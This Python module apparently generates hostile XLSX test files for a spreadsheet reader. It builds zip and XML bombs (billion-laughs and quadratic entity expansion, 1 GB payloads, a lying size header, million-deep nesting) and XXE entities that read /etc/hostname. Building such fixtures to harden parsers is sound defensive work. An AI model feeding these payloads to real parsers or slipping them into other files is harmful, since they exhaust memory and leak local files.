"""Small files that would fill the memory or the clock of a careless reader, or fetch what lies elsewhere."""

from __future__ import annotations

from dataclasses import replace

from hostile import (
    DECLARATION,
    MAIN,
    MEGABYTE,
    SHARED,
    SHEET,
    STRINGS,
    Ends,
    Member,
    Tab,
    cell,
    data,
    pack,
    parts,
    row,
    styles,
    with_part,
    workbook,
)

_START = f'{DECLARATION}<worksheet xmlns="{MAIN}"><sheetData>'.encode()
_STOP = b"</sheetData></worksheet>"
_ONE = row(1, cell("A1", 1)).encode()
_BLANK = b" " * MEGABYTE
_CELLS = (b"<row>" + b"<c><v>1</v></c>" * 20 + b"</row>") * 1000
_FORMAT = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
_LAUGHS = '<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + step)} "{f"&{chr(97 + step)};" * 10}">' for step in range(9)
)
_LONG = f'<!ENTITY a "{"A" * 100_000}">'
_FOREIGN = '<!ENTITY e SYSTEM "file:///etc/hostname">'
_COUNT = f'{DECLARATION}<sst xmlns="{MAIN}" count="4000000000" uniqueCount="4000000000"><si><t>x</t></si></sst>'


def _repeated(name: str, head: bytes, block: bytes, times: int, tail: bytes, strings: str | None = None) -> bytes:
    return with_part(
        parts(Tab(data(_ONE.decode()) if strings is None else SHARED), strings=strings),
        Member.repeated(name, head, block, times, tail),
    )


def _one_string() -> bytes:
    head = f'{DECLARATION}<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
    return _repeated(STRINGS, head, b"A" * MEGABYTE, 1024, b"</t></si></sst>", strings="")


def _formats() -> bytes:
    head, end, tail = styles(0).partition("</cellXfs>")
    return _repeated("xl/styles.xml", head.encode(), _FORMAT * 5000, 1000, (end + tail).encode())


def _lying_size() -> bytes:
    """The headers claim 2,000 bytes; there are 300 MB."""
    sheet = Member.repeated(SHEET, _START + _ONE, _BLANK, 300, _STOP)
    return with_part(parts(Tab()), replace(sheet, size=2000))


def _in_sheet(entity: str, use: str) -> bytes:
    inner = f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{use}</t></is></c></row></sheetData>'
    return workbook(f'{DECLARATION}<!DOCTYPE x [{entity}]><worksheet xmlns="{MAIN}">{inner}</worksheet>'.encode())


def _in_strings(entity: str, use: str) -> bytes:
    body = f'{DECLARATION}<!DOCTYPE x [{entity}]><sst xmlns="{MAIN}"><si><t>{use}</t></si></sst>'
    return workbook(SHARED, strings=body.encode())


ENDS: Ends = {
    "F101": {
        "bomb_lying_size.xlsx": _lying_size,
    },
    "F104": {
        "bomb_spaces_1GB.xlsx": lambda: _repeated(SHEET, _START + _ONE, _BLANK, 1024, _STOP),
        "bomb_cells_20M.xlsx": lambda: _repeated(SHEET, _START, _CELLS, 1000, _STOP),
        "bomb_one_string_1GB.xlsx": _one_string,
        "bomb_styles_5M_xf.xlsx": _formats,
        "bomb_billion_laughs_sheet.xlsx": lambda: _in_sheet(_LAUGHS, "&j;"),
        "bomb_billion_laughs_sst.xlsx": lambda: _in_strings(_LAUGHS, "&j;"),
        "bomb_quadratic_entity_sst.xlsx": lambda: _in_strings(_LONG, "&a;" * 20_000),
        "xxe_file_sst.xlsx": lambda: _in_strings(_FOREIGN, "[&e;]"),
        "xxe_file_sheet.xlsx": lambda: _in_sheet(_FOREIGN, "[&e;]"),
        "bomb_nested_1M.xlsx": lambda: workbook(
            f"{data(_ONE.decode())}<extLst>{'<a>' * 1_000_000}{'</a>' * 1_000_000}</extLst>"
        ),
        "bomb_1000_sheets.xlsx": lambda: pack(
            parts(*(Tab(data(row(1, cell("A1", number))), name=f"S{number}") for number in range(1000)))
        ),
    },
    "I101": {
        "bomb_sst_uniquecount_lie.xlsx": lambda: workbook(SHARED, strings=_COUNT.encode()),
        "bomb_unused_media_1GB.xlsx": lambda: _repeated("xl/media/image1.png", b"", bytes(MEGABYTE), 1024, b""),
    },
}
